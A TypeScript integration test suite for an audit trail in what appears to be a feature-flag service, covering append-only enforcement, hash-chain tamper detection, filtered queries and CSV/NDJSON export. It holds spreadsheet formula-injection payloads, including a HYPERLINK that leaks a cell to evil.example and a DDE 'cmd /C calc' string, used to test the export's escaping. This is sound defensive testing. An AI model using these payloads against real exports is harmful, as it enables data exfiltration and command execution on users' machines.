import { type AuditEvent, auditEventSchema, type CreatedToken } from '@flagline/core';
import { sql } from 'drizzle-orm';
import pino from 'pino';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CSV_COLUMNS } from '../../src/audit/export';
import { chainHash } from '../../src/audit/hash';
import { startBackgroundJobs } from '../../src/background/jobs';
import { loadConfig } from '../../src/config';
import { flagSchedules } from '../../src/db/schema';
import type { ChangeContext } from '../../src/db/unit-of-work';
import { createFlag } from '../../src/flags/flag-service';
import { unitOfWork } from '../../src/http/deps';
import { cleanupSchedules } from '../../src/schedules/retention';
import { answer, apiClient } from '../helpers/api-client';
import { createTestApp, type TestApp } from '../helpers/app';
import { sealAudit } from '../helpers/audit';
import { testBackends } from '../helpers/database';
import { expectError, tokenIdOf } from '../helpers/http';

const sleep = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));

/** The database's own message for a statement that must fail, with its SQLSTATE (drizzle wraps it in `cause`). */
async function sqlFailure(run: () => Promise<unknown>): Promise<{ message: string; code: string | undefined }> {
  try {
    await run();
  } catch (error) {
    let current: unknown = error;
    while (current instanceof Error && current.cause instanceof Error) current = current.cause;
    const root = current as Error & { code?: string };
    return { message: root.message, code: root.code };
  }
  throw new Error('the statement succeeded; it should have been refused');
}

/** RFC 4180, strictly: quoted fields may hold "", commas and line breaks; records end in CRLF; anything else throws. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  let wasQuoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch !== '"') field += ch;
      else if (text[i + 1] === '"') {
        field += '"';
        i++;
      } else quoted = false;
      continue;
    }
    if (ch === '"') {
      if (field !== '' || wasQuoted) throw new Error(`stray quote at ${i}`);
      quoted = true;
      wasQuoted = true;
    } else if (ch === ',') {
      row.push(field);
      field = '';
      wasQuoted = false;
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      wasQuoted = false;
      i++;
    } else if (ch === '\r' || ch === '\n') {
      throw new Error(`bare line break outside quotes at ${i}`);
    } else {
      if (wasQuoted) throw new Error(`text after a closing quote at ${i}`);
      field += ch;
    }
  }
  if (quoted || field !== '' || row.length > 0) throw new Error('the last record is not terminated by CRLF');
  return rows;
}

/** What a CSV cell must hold for a value: empty for null, JSON for objects, a leading ' before formula characters. */
function csvText(value: unknown): string {
  if (value === null || value === undefined) return '';
  const text = typeof value === 'string' ? value : JSON.stringify(value);
  return /^[=+\-@\t\r]/.test(text) ? `'${text}` : text;
}

type FilterName = 'type' | 'flagKey' | 'environment' | 'actorId' | 'scheduleId' | 'from' | 'to';
const FILTERS: FilterName[] = ['type', 'flagKey', 'environment', 'actorId', 'scheduleId', 'from', 'to'];
type Filter = { type?: AuditEvent['type'] } & Partial<Record<Exclude<FilterName, 'type'>, string>>;

/** The filters' meaning, computed here independently of the SQL: equality, from inclusive, to exclusive. */
function matches(event: AuditEvent, filter: Filter): boolean {
  const at = Date.parse(event.occurredAt);
  return (
    (filter.type === undefined || event.type === filter.type) &&
    (filter.flagKey === undefined || event.flagKey === filter.flagKey) &&
    (filter.environment === undefined || event.environment === filter.environment) &&
    (filter.actorId === undefined || event.actor.id === filter.actorId) &&
    (filter.scheduleId === undefined || event.scheduleId === filter.scheduleId) &&
    (filter.from === undefined || at >= Date.parse(filter.from)) &&
    (filter.to === undefined || at < Date.parse(filter.to))
  );
}

const EVIL_USER = {
  type: 'user' as const,
  id: '=HYPERLINK("http://evil.example/?x="&A1,"open")',
  email: '+1@evil.example',
};
const EVIL_USER_2 = { type: 'user' as const, id: '@SUM(1+1)*cmd|" /C calc"!A0', email: '\t=1+1@evil.example' };

describe.each(testBackends())('the audit trail as a product (%s)', (backend) => {
  let t: TestApp;
  let alice: CreatedToken;
  let bob: CreatedToken;
  /** Every event in the database, newest first, as the API lists it without filters. */
  let all: AuditEvent[];
  let scheduleIds: string[];

  /** The typed client as `token` (default: the admin token), on `app` (default: this suite's app). */
  const api = (token?: CreatedToken | string, app: TestApp = t) =>
    apiClient(app, typeof token === 'object' ? token.secret : token);
  const flag = (flagKey: string, environment?: string) => ({
    params: { path: { flagKey }, query: environment ? { environment } : {} },
  });
  const auditPage = (query: Filter & { limit?: number; cursor?: string }, app: TestApp = t) =>
    answer(api(undefined, app).GET('/api/admin/audit', { params: { query } }));
  const ok = async <T>(promise: Promise<{ status: number; body: T }>, status = 200): Promise<T> => {
    const response = await promise;
    expect({ status: response.status, body: response.body }).toMatchObject({ status });
    return response.body;
  };
  const verify = async (app: TestApp) => ok(answer(api(app.tokens.viewer, app).GET('/api/admin/audit/verify')));
  const intact = (checked: number) => ({
    ok: true,
    checked,
    firstBrokenId: null,
    unsealed: 0,
    problem: null,
    checkpoints: 0,
  });

  beforeAll(async () => {
    t = await createTestApp(backend);
    alice = await ok(answer(api().POST('/api/admin/tokens', { body: { name: 'alice', role: 'admin' } })), 201);
    bob = await ok(answer(api().POST('/api/admin/tokens', { body: { name: 'bob', role: 'admin' } })), 201);
    const future = (hours: number) => new Date(Date.now() + hours * 3_600_000).toISOString();
    // Phases a few ms apart, so the time filters have boundaries to cut at.
    await ok(answer(api(alice).POST('/api/admin/flags', { body: { key: 'pf-alpha', description: 'a' } })), 201);
    await ok(answer(api(bob).POST('/api/admin/flags', { body: { key: 'pf-beta', description: 'b' } })), 201);
    await sleep(15);
    await ok(
      answer(
        api(alice).PATCH('/api/admin/flags/{flagKey}', { ...flag('pf-alpha', 'development'), body: { enabled: true } }),
      ),
    );
    await ok(
      answer(api(bob).PATCH('/api/admin/flags/{flagKey}', { ...flag('pf-alpha'), body: { rolloutPercentage: 30 } })),
    );
    await ok(
      answer(
        api(alice).PATCH('/api/admin/flags/{flagKey}', {
          ...flag('pf-beta'),
          body: { enabled: true },
          headers: { 'x-request-id': 'deploy:2026-12-01.7' },
        }),
      ),
    );
    await ok(
      answer(
        api(bob).POST('/api/admin/flags/{flagKey}/users', {
          ...flag('pf-alpha', 'development'),
          body: { userId: 'u1', overrideType: 'include' },
        }),
      ),
      201,
    );
    await ok(
      answer(
        api(alice).POST('/api/admin/flags/{flagKey}/users', {
          ...flag('pf-beta'),
          body: { userId: 'u2', overrideType: 'exclude', reason: 'comma, "quotes"' },
        }),
      ),
      201,
    );
    await sleep(15);
    await ok(
      answer(
        api(alice).DELETE('/api/admin/flags/{flagKey}/users/{userId}', {
          params: { path: { flagKey: 'pf-alpha', userId: 'u1' }, query: { environment: 'development' } },
        }),
      ),
      204,
    );
    const s1 = await ok(
      answer(
        api(alice).POST('/api/admin/flags/{flagKey}/schedule', {
          ...flag('pf-alpha', 'development'),
          body: { scheduledAt: future(24), updates: { enabled: false } },
        }),
      ),
      201,
    );
    const s2 = await ok(
      answer(
        api(bob).POST('/api/admin/flags/{flagKey}/schedule', {
          ...flag('pf-beta'),
          body: { scheduledAt: future(48), updates: { rolloutPercentage: 100 } },
        }),
      ),
      201,
    );
    await ok(
      answer(
        api(bob).DELETE('/api/admin/flags/{flagKey}/schedule/{scheduleId}', {
          params: { path: { flagKey: 'pf-alpha', scheduleId: s1.id } },
        }),
      ),
    );
    scheduleIds = [s1.id, s2.id];
    await sleep(15);
    await ok(answer(api().POST('/api/admin/environments', { body: { key: 'staging', name: 'Staging' } })), 201);
    await ok(
      answer(
        api(bob).PATCH('/api/admin/flags/{flagKey}', {
          ...flag('pf-beta', 'staging'),
          body: { rolloutPercentage: 50 },
        }),
      ),
    );
    await ok(answer(api(bob).POST('/api/admin/flags', { body: { key: 'pf-temp' } })), 201);
    await ok(
      answer(api(alice).DELETE('/api/admin/flags/{flagKey}', { params: { path: { flagKey: 'pf-temp' } } })),
      204,
    );
    // A user principal (as a JWT login would be) whose id and email a spreadsheet would run as formulas.
    const uow = unitOfWork(t.deps);
    const gamma: ChangeContext = { actor: EVIL_USER, requestId: '-2+3' };
    await createFlag(uow, gamma, { key: 'pf-gamma', description: '@SUM(1,2)' }, 'production');
    const delta: ChangeContext = { actor: EVIL_USER_2, requestId: 'two\r\nlines, "quoted"' };
    await createFlag(uow, delta, { key: 'pf-delta', description: 'tab\there' }, 'production');

    await sealAudit(t);
    const page = await ok(auditPage({ limit: 500 }));
    expect(page.nextCursor).toBeNull();
    all = page.items;
  });
  afterAll(async () => {
    await t?.close();
  });

  it('recorded exactly the changes made, with their actors, flags, environments and schedules', async () => {
    const adminId = await tokenIdOf(t, t.tokens.admin);
    const system = { type: 'system', id: 'test-setup', email: null };
    const shape = (event: AuditEvent) => [
      event.type,
      event.actor.id,
      event.flagKey,
      event.environment,
      event.scheduleId,
    ];
    const [s1, s2] = scheduleIds;
    expect(all.map(shape).reverse()).toEqual([
      ['token.created', system.id, null, null, null],
      ['token.created', system.id, null, null, null],
      ['token.created', system.id, null, 'production', null],
      ['token.created', system.id, null, 'development', null],
      ['token.created', adminId, null, null, null],
      ['token.created', adminId, null, null, null],
      ['flag.created', alice.id, 'pf-alpha', null, null],
      ['flag.created', bob.id, 'pf-beta', null, null],
      ['flag.updated', alice.id, 'pf-alpha', 'development', null],
      ['flag.updated', bob.id, 'pf-alpha', 'production', null],
      ['flag.updated', alice.id, 'pf-beta', 'production', null],
      ['flag_override.set', bob.id, 'pf-alpha', 'development', null],
      ['flag_override.set', alice.id, 'pf-beta', 'production', null],
      ['flag_override.removed', alice.id, 'pf-alpha', 'development', null],
      ['flag_schedule.created', alice.id, 'pf-alpha', 'development', s1],
      ['flag_schedule.created', bob.id, 'pf-beta', 'production', s2],
      ['flag_schedule.cancelled', bob.id, 'pf-alpha', 'development', s1],
      ['environment.created', adminId, null, 'staging', null],
      ['flag.updated', bob.id, 'pf-beta', 'staging', null],
      ['flag.created', bob.id, 'pf-temp', null, null],
      ['flag.deleted', alice.id, 'pf-temp', null, null],
      ['flag.created', EVIL_USER.id, 'pf-gamma', null, null],
      ['flag.created', EVIL_USER_2.id, 'pf-delta', null, null],
    ]);
    for (const event of all) auditEventSchema.parse(event);
    const ids = all.map((event) => BigInt(event.id));
    expect(ids.every((id, i) => i === 0 || id < (ids[i - 1] ?? 0n))).toBe(true);
  });

  describe('append-only', () => {
    it('refuses a direct SQL UPDATE, DELETE and TRUNCATE, and the rows stay as they were', async () => {
      const db = t.deps.database.db;
      const [newest] = all;
      if (!newest) throw new Error('no events');
      const attempts = {
        UPDATE: () => db.execute(sql`update audit_events set type = 'flag.deleted' where id = ${newest.id}`),
        'UPDATE of every row': () => db.execute(sql`update audit_events set actor_id = 'someone else'`),
        DELETE: () => db.execute(sql`delete from audit_events where id = ${newest.id}`),
        'DELETE of every row': () => db.execute(sql`delete from audit_events`),
        TRUNCATE: () => db.execute(sql`truncate audit_events`),
      };
      for (const [name, attempt] of Object.entries(attempts)) {
        const failure = await sqlFailure(attempt);
        const operation = name.split(' ')[0];
        expect(failure.message, name).toBe(`audit_events is append-only: ${operation} is not allowed`);
        expect(failure.code, name).toBe('42501');
      }
      expect((await ok(auditPage({ limit: 500 }))).items).toEqual(all);
      expect(await verify(t)).toEqual(intact(all.length));
    });

    it('detects a row altered behind the trigger’s back, naming that row (and a re-hashed row at its successor)', async () => {
      const fresh = await createTestApp(backend);
      const db = fresh.deps.database.db;
      try {
        const freshApi = api(undefined, fresh);
        await ok(answer(freshApi.POST('/api/admin/flags', { body: { key: 'tamper', description: 'x' } })), 201);
        await ok(answer(freshApi.PATCH('/api/admin/flags/{flagKey}', { ...flag('tamper'), body: { enabled: true } })));
        await ok(
          answer(freshApi.PATCH('/api/admin/flags/{flagKey}', { ...flag('tamper'), body: { rolloutPercentage: 10 } })),
        );
        await ok(
          answer(
            freshApi.POST('/api/admin/flags/{flagKey}/users', {
              ...flag('tamper'),
              body: { userId: 'u', overrideType: 'include' },
            }),
          ),
          201,
        );
        await sealAudit(fresh);
        const events = (await ok(auditPage({ limit: 500 }, fresh))).items.reverse();
        expect(await verify(fresh)).toEqual(intact(events.length));
        const index = events.findIndex(
          (event) => event.type === 'flag.updated' && JSON.stringify(event.data.changedFields) === '["enabled"]',
        );
        const target = events[index];
        const successor = events[index + 1];
        if (!target || !successor) throw new Error('the dataset is missing the target event');
        const broken = (at: AuditEvent, problem: RegExp) => ({
          ok: false,
          checked: events.indexOf(at),
          firstBrokenId: at.id,
          problem: expect.stringMatching(problem),
          checkpoints: 0,
        });

        await db.execute(sql`alter table audit_events disable trigger audit_events_no_update_delete`);
        await db.execute(sql`alter table audit_chain disable trigger audit_chain_no_update_delete`);
        try {
          const original = JSON.stringify(target.data);
          const tampering = [
            sql`update audit_events set data = jsonb_set(data, '{changedFields}', '["rolloutPercentage"]') where id = ${target.id}`,
            sql`update audit_events set actor_id = 'innocent-bystander' where id = ${target.id}`,
            sql`update audit_events set occurred_at = occurred_at - interval '1 hour' where id = ${target.id}`,
            sql`update audit_events set "after" = jsonb_set("after", '{enabled}', 'false') where id = ${target.id}`,
          ];
          const restore = [
            sql`update audit_events set data = ${original}::jsonb where id = ${target.id}`,
            sql`update audit_events set actor_id = ${target.actor.id} where id = ${target.id}`,
            sql`update audit_events set occurred_at = ${target.occurredAt}::timestamptz where id = ${target.id}`,
            sql`update audit_events set "after" = ${JSON.stringify(target.after)}::jsonb where id = ${target.id}`,
          ];
          for (const [i, statement] of tampering.entries()) {
            await db.execute(statement);
            expect(await verify(fresh), `tampering #${i}`).toEqual(broken(target, /was altered/));
            await db.execute(restore[i] ?? sql`select 1`);
            expect(await verify(fresh), `after undoing tampering #${i}`).toEqual(intact(events.length));
          }

          // A careful forger also recomputes the altered row's hash with the published hash input: the chain then
          // breaks at the next link (re-chaining everything after it is caught only by a checkpoint: audit-sealing).
          const forged = { ...target.data, changedFields: ['rolloutPercentage'] };
          const position = target.position ?? 0;
          const forgedHash = chainHash(position, target.prevHash, { ...target, data: forged });
          await db.execute(
            sql`update audit_events set data = ${JSON.stringify(forged)}::jsonb where id = ${target.id}`,
          );
          await db.execute(sql`update audit_chain set hash = ${forgedHash} where position = ${position}`);
          expect(await verify(fresh)).toEqual(broken(successor, /does not link/));
          await db.execute(sql`update audit_events set data = ${original}::jsonb where id = ${target.id}`);
          await db.execute(sql`update audit_chain set hash = ${target.hash} where position = ${position}`);
          expect(await verify(fresh)).toEqual(intact(events.length));

          // Removing a row is caught where the chain names it.
          await db.execute(sql`delete from audit_events where id = ${target.id}`);
          expect(await verify(fresh)).toEqual(broken(target, /is missing/));
        } finally {
          await db.execute(sql`alter table audit_events enable trigger audit_events_no_update_delete`);
          await db.execute(sql`alter table audit_chain enable trigger audit_chain_no_update_delete`);
        }
        const again = await sqlFailure(() => db.execute(sql`update audit_events set type = type`));
        expect(again.message).toMatch(/append-only/);
        const chained = await sqlFailure(() => db.execute(sql`delete from audit_chain`));
        expect(chained.message).toBe('audit_chain is append-only: DELETE is not allowed');
      } finally {
        await fresh.close();
      }
    }, 180_000);
  });

  describe('query', () => {
    it('every combination of the seven filters returns exactly the matching events, newest first, and pages without gaps or repeats', async () => {
      const [s1, s2] = scheduleIds;
      const oldestFirst = [...all].reverse();
      let nonEmpty = 0;
      let requests = 0;
      for (let mask = 1; mask < 2 ** FILTERS.length; mask++) {
        // Two anchors per combination: the filter values are taken from a real event, so most combinations match something.
        for (const k of [0, 1]) {
          const position = (mask * 7 + k * 11) % oldestFirst.length;
          const anchor = oldestFirst[position];
          const later = oldestFirst[Math.min(position + 6, oldestFirst.length - 1)];
          if (!anchor || !later) throw new Error('no anchor');
          const values: Required<Filter> = {
            type: anchor.type,
            flagKey: anchor.flagKey ?? (k === 0 ? 'pf-alpha' : 'pf-beta'),
            environment: anchor.environment ?? 'development',
            actorId: anchor.actor.id,
            scheduleId: anchor.scheduleId ?? (k === 0 ? (s2 ?? '') : (s1 ?? '')),
            from: anchor.occurredAt,
            to:
              later.occurredAt > anchor.occurredAt
                ? later.occurredAt
                : new Date(Date.parse(anchor.occurredAt) + 1).toISOString(),
          };
          const filter: Filter = {};
          for (const [bit, name] of FILTERS.entries())
            if (mask & (1 << bit)) Object.assign(filter, { [name]: values[name] });
          const expected = all.filter((event) => matches(event, filter)).map((event) => event.id);
          if (expected.length > 0) nonEmpty++;
          const label = JSON.stringify(filter);

          const whole = await ok(auditPage({ ...filter, limit: 500 }));
          requests++;
          expect(
            whole.items.map((event) => event.id),
            label,
          ).toEqual(expected);
          expect(whole.nextCursor, label).toBeNull();
          for (const event of whole.items) expect(event, label).toEqual(all.find((item) => item.id === event.id));
          if (expected.length < 2) continue;

          const limit = Math.ceil(expected.length / 3);
          const paged: string[] = [];
          let cursor: string | null = null;
          let pages = 0;
          do {
            const query: Filter & { limit: number; cursor?: string } = cursor
              ? { ...filter, limit, cursor }
              : { ...filter, limit };
            const page = await ok(auditPage(query));
            requests++;
            pages++;
            expect(page.items.length, label).toBeLessThanOrEqual(limit);
            paged.push(...page.items.map((event) => event.id));
            cursor = page.nextCursor;
          } while (cursor && pages <= expected.length);
          expect(paged, `${label} paged by ${limit}`).toEqual(expected);
          expect(pages, label).toBe(Math.ceil(expected.length / limit));
        }
      }
      // The combinations must actually exercise the filters, not compare empty lists.
      expect(nonEmpty).toBeGreaterThan(100);
      expect(requests).toBeGreaterThan(254);
    }, 120_000);

    it('gets one event by id; an unknown, malformed or out-of-range id is 404', async () => {
      for (const event of [all[0], all[5], all.at(-1)]) {
        if (!event) throw new Error('missing event');
        expect(
          await ok(answer(api(t.tokens.viewer).GET('/api/admin/audit/{id}', { params: { path: { id: event.id } } }))),
        ).toEqual(event);
      }
      for (const id of ['999999', 'abc', '-1', '1.5', '99999999999999999999']) {
        expectError(await t.request('GET', `/api/admin/audit/${id}`), 404, 'NOT_FOUND');
      }
      expectError(
        await answer(api(t.tokens.client).GET('/api/admin/audit/{id}', { params: { path: { id: all[0]?.id ?? '' } } })),
        403,
        'FORBIDDEN',
      );
    });
  });

  describe('export', () => {
    const download = async (query: Record<string, string>) => {
      const response = await t.app.request(`/api/admin/audit/export?${new URLSearchParams(query)}`, {
        headers: { authorization: `Bearer ${t.tokens.viewer}` },
      });
      return { response, text: await response.text() };
    };

    it('streams NDJSON, oldest first, with the same filters as the query', async () => {
      const filters: Filter[] = [
        {},
        { actorId: alice.id },
        { flagKey: 'pf-alpha', environment: 'development' },
        { type: 'flag.created', from: all.at(-8)?.occurredAt ?? '' },
        { scheduleId: scheduleIds[0] ?? '', to: all[0]?.occurredAt ?? '' },
        { actorId: 'nobody' },
      ];
      for (const filter of filters) {
        const { response, text } = await download({ ...filter, format: 'ndjson' });
        expect(response.status).toBe(200);
        expect(response.headers.get('content-type')).toBe('application/x-ndjson');
        expect(response.headers.get('content-disposition')).toMatch(
          /^attachment; filename="flagline-audit-[\w-]+\.ndjson"$/,
        );
        const expected = all.filter((event) => matches(event, filter)).reverse();
        if (expected.length === 0) {
          expect(text).toBe('');
          continue;
        }
        expect(text.endsWith('\n')).toBe(true);
        const lines = text.slice(0, -1).split('\n');
        // One complete JSON object per line (SIEM ingestion), equal to what the query API returns.
        expect(
          lines.map((line) => auditEventSchema.parse(JSON.parse(line))),
          JSON.stringify(filter),
        ).toEqual(expected);
      }
      // NDJSON is the default format.
      const { response, text } = await download({ actorId: bob.id });
      expect(response.headers.get('content-type')).toBe('application/x-ndjson');
      expect(text.trim().split('\n')).toHaveLength(all.filter((event) => event.actor.id === bob.id).length);
    });

    it('streams CSV: header, one record per event, quoting, JSON columns and a guard against spreadsheet formulas', async () => {
      const { response, text } = await download({ format: 'csv' });
      expect(response.status).toBe(200);
      expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
      expect(response.headers.get('content-disposition')).toMatch(
        /^attachment; filename="flagline-audit-[\w-]+\.csv"$/,
      );
      const [header, ...records] = parseCsv(text);
      expect(header).toEqual([...CSV_COLUMNS]);
      expect(header).toEqual([
        'id',
        'occurredAt',
        'type',
        'actorType',
        'actorId',
        'actorEmail',
        'environment',
        'flagKey',
        'scheduleId',
        'requestId',
        'data',
        'before',
        'after',
        'prevHash',
        'hash',
        'position',
      ]);
      const events = [...all].reverse();
      expect(records).toHaveLength(events.length);
      for (const [i, record] of records.entries()) {
        const event = events[i];
        if (!event) throw new Error('missing event');
        expect(record).toHaveLength(CSV_COLUMNS.length);
        const cell = (column: (typeof CSV_COLUMNS)[number]) => record[CSV_COLUMNS.indexOf(column)];
        expect(record, `record ${i}`).toEqual([
          event.id,
          event.occurredAt,
          event.type,
          event.actor.type,
          csvText(event.actor.id),
          csvText(event.actor.email),
          csvText(event.environment),
          csvText(event.flagKey),
          csvText(event.scheduleId),
          csvText(event.requestId),
          csvText(event.data),
          csvText(event.before),
          csvText(event.after),
          csvText(event.prevHash),
          csvText(event.hash),
          String(event.position),
        ]);
        // The JSON columns round-trip.
        expect(JSON.parse(cell('data') ?? '')).toEqual(event.data);
        if (event.after) expect(JSON.parse(cell('after') ?? '')).toEqual(event.after);
      }

      // The hostile values, spelled out: every cell a spreadsheet would evaluate starts with a quote instead.
      const byRequest = (requestId: string) => records.find((record) => record[9]?.endsWith(requestId));
      const gamma = byRequest('-2+3');
      expect(gamma?.slice(4, 6)).toEqual([`'${EVIL_USER.id}`, `'${EVIL_USER.email}`]);
      expect(gamma?.[9]).toBe("'-2+3");
      expect(byRequest('deploy:2026-12-01.7')?.[9]).toBe('deploy:2026-12-01.7');
      const delta = byRequest('two\r\nlines, "quoted"');
      expect(delta?.[9]).toBe('two\r\nlines, "quoted"');
      expect(delta?.slice(4, 6)).toEqual([`'${EVIL_USER_2.id}`, `'${EVIL_USER_2.email}`]);
      for (const record of records) for (const cell of record) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      // ... and the raw text quotes exactly the cells that need it.
      expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""open"")"`);
      expect(text).toContain('"two\r\nlines, ""quoted"""');
      expect(text).toContain(`,'+1@evil.example,`);
    });

    it('applies the filters to CSV too, and rejects an unknown format', async () => {
      const { text } = await download({ format: 'csv', flagKey: 'pf-beta', actorId: bob.id });
      const [header, ...records] = parseCsv(text);
      expect(header).toEqual([...CSV_COLUMNS]);
      const expected = all.filter((event) => event.flagKey === 'pf-beta' && event.actor.id === bob.id).reverse();
      expect(records.map((record) => record[0])).toEqual(expected.map((event) => event.id));
      expect(parseCsv((await download({ format: 'csv', actorId: 'nobody' })).text)).toEqual([[...CSV_COLUMNS]]);
      expectError(await t.request('GET', '/api/admin/audit/export?format=xml'), 400, 'VALIDATION_FAILED');
    });
  });

  describe('schedule retention', () => {
    const insertSchedule = async (
      status: 'pending' | 'applied' | 'failed' | 'cancelled',
      age: { applied?: number; cancelled?: number; scheduled: number },
    ) => {
      const [row] = await t.deps.database.db
        .insert(flagSchedules)
        .values({
          flagKey: 'pf-beta',
          environment: 'production',
          scheduledAt: sql`now() + ${`${-age.scheduled} days`}::interval`,
          status,
          updates: { enabled: true },
          appliedAt: age.applied === undefined ? null : sql`now() - ${`${age.applied} days`}::interval`,
          cancelledAt: age.cancelled === undefined ? null : sql`now() - ${`${age.cancelled} days`}::interval`,
          errorMessage: status === 'failed' ? 'boom' : null,
        })
        .returning({ id: flagSchedules.id });
      if (!row) throw new Error('no schedule row');
      return row.id;
    };
    const remaining = async (ids: string[]) => {
      const rows = await t.deps.database.db.select({ id: flagSchedules.id }).from(flagSchedules);
      return ids.filter((id) => rows.some((row) => row.id === id));
    };

    it('removes applied schedules after 90 days and cancelled ones after 30, keeps failed ones, and never touches audit events', async () => {
      const [s1, s2] = scheduleIds;
      if (!s1 || !s2) throw new Error('no schedules');
      const rows = {
        applied91: await insertSchedule('applied', { applied: 91, scheduled: 91 }),
        applied89: await insertSchedule('applied', { applied: 89, scheduled: 89 }),
        cancelled31: await insertSchedule('cancelled', { cancelled: 31, scheduled: -1 }),
        cancelled29: await insertSchedule('cancelled', { cancelled: 29, scheduled: -1 }),
        failed400: await insertSchedule('failed', { scheduled: 400 }),
        pending: await insertSchedule('pending', { scheduled: -30 }),
      };
      // The dataset's own schedule s1 was cancelled: backdate it, so its row goes while its history stays.
      await t.deps.database.db.execute(
        sql`update flag_schedules set cancelled_at = now() - interval '45 days' where id = ${s1}`,
      );
      const historyOfS1 = all.filter((event) => event.scheduleId === s1);
      expect(historyOfS1.map((event) => event.type)).toEqual(['flag_schedule.cancelled', 'flag_schedule.created']);
      const before = await verify(t);

      expect(await cleanupSchedules(t.deps.database.db, t.deps.config.scheduler)).toEqual({ deleted: 3 });
      expect(await remaining([...Object.values(rows), s1, s2])).toEqual([
        rows.applied89,
        rows.cancelled29,
        rows.failed400,
        rows.pending,
        s2,
      ]);
      expect(await cleanupSchedules(t.deps.database.db, t.deps.config.scheduler)).toEqual({ deleted: 0 });

      // Audit events are never deleted: same chain, and the deleted schedule's history is still queryable.
      expect(await verify(t)).toEqual(before);
      expect(await verify(t)).toEqual(intact(all.length));
      const page = await ok(auditPage({ scheduleId: s1 }));
      expect(page.items).toEqual(historyOfS1);

      // Configurable: SCHEDULE_RETENTION_*_DAYS, applied by the daily cleanup the background jobs start with.
      const config = loadConfig({
        LOG_LEVEL: 'silent',
        SCHEDULE_RETENTION_APPLIED_DAYS: '60',
        SCHEDULE_RETENTION_CANCELLED_DAYS: '20',
      });
      expect(config.scheduler).toMatchObject({ appliedRetentionDays: 60, cancelledRetentionDays: 20 });
      const jobs = await startBackgroundJobs({ database: t.deps.database, config, logger: pino({ level: 'silent' }) });
      try {
        const deadline = Date.now() + 10_000;
        while ((await remaining([rows.applied89, rows.cancelled29])).length > 0 && Date.now() < deadline)
          await sleep(50);
      } finally {
        await jobs.stop();
      }
      expect(await remaining([...Object.values(rows), s2])).toEqual([rows.failed400, rows.pending, s2]);
      expect(await verify(t)).toEqual(intact(all.length));
    });
  });
});
